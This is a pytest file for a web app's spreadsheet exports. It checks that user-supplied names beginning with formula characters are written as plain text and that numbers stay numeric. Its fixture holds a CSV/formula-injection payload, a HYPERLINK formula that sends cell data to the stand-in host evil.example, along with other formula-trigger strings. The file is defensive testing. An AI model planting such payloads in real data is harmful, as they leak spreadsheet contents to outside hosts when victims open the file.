"""Exports neutralise formula injection: a name or procedure typed as `=HYPERLINK(...)` opens in a spreadsheet as
that text (a string cell, no <f> element in the sheet XML), while numbers stay numbers."""

from __future__ import annotations

import io
import zipfile

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
OTHERS = ["+SUM(1,2)", "-1+2", "@cmd", "\t=1+1"]


@pytest.fixture
def poisoned(scored, db):
    from app.auth.services import find_user
    from app.indicators.models import Indicator
    from app.org.services import find_unit_by_code

    units = [find_unit_by_code(code) for code in ("NS", "NS.TANSON", "NS.MANOI")]
    for unit, name in zip(units, [EVIL, *OTHERS], strict=False):
        unit.name = name
    for indicator, name in zip(db.session.scalars(sa.select(Indicator).order_by(Indicator.id)), [EVIL, *OTHERS],
                               strict=False):
        indicator.name = name
    db.session.commit()
    return {"NS": units[0].id, "yenntk": find_user("yenntk").id}


def _cells(data: bytes):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize("url", ["/scores/units/{NS}?period=2026-10&format=xlsx",
                                 "/scores/ranks/{NS}?period=2026-10&format=xlsx", "/scores/owners/{yenntk}?format=xlsx"])
def test_exported_user_text_is_text_and_numbers_stay_numbers(poisoned, auth, url):
    auth.login("hungdv")
    for code, unit_id in poisoned.items():
        url = url.replace("{" + code + "}", str(unit_id))
    response = auth.client.get(url)
    assert response.status_code == 200, url
    cells = _cells(response.data)
    formula_like = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t"))]
    assert formula_like, "the poisoned text must be in the export"
    assert all(c.data_type == "s" for c in formula_like)
    assert {c.value for c in cells} & {EVIL, *OTHERS}
    assert any(c.data_type == "n" for c in cells), "numbers stay numbers"
